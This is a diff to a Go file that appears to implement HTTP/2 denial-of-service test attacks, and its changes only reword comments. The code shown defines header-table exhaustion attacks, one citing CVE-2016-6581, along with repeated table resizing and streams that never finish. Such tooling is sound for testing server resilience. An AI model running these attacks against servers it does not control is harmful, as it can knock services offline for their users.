@@ -7,10 +7,10 @@ import (
 	"golang.org/x/net/http2"
 )
 
-// entry is as long as one entry of the header table may be.
+// entry is about the largest entry that fits into the header table.
 const entry = 4000
 
-// names is a list of different names of fields, as the field Trailer has it.
+// names is a list of different field names for the field Trailer.
 var names = func() string {
 	var b strings.Builder
 	for i := 0; b.Len() < entry-8; i++ {
@@ -19,7 +19,7 @@ var names = func() string {
 	return strings.TrimSuffix(b.String(), ",")
 }()
 
-// headers are the attacks with heads that are short on the wire and long in memory, or that have no end.
+// headers are the attacks with heads that are short on the wire and large in memory, or that never end.
 var headers = []Attack{
 	{Name: "header table: one long field, many requests", CVE: "CVE-2016-6581", Run: func(a *Attacker) {
 		a.heads(4, "x", strings.Repeat("v", entry))
@@ -89,7 +89,7 @@ var headers = []Attack{
 		})
 	}},
 	{Name: "header table resized again and again", Run: func(a *Attacker) {
-		// 0x3f 0xe1 0x1f sets the table to 4096 bytes, 0x20 to none.
+		// 0x3f 0xe1 0x1f sets the table to 4096 bytes, 0x20 to 0.
 		sizes := []byte("\x20\x3f\xe1\x1f")
 		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
 			block := append(append([]byte(nil), sizes...), 0x83, 0x87, 0x84)
@@ -106,7 +106,7 @@ var headers = []Attack{
 	}},
 }
 
-// heads opens as many streams as it may, with fields that the header table makes short, and whose handlers do not end.
+// heads opens as many streams as allowed. Their fields are short references to the header table, and their handlers do not end.
 func (a *Attacker) heads(conns int, pairs ...string) {
 	for range conns {
 		c := a.open(Opening{})
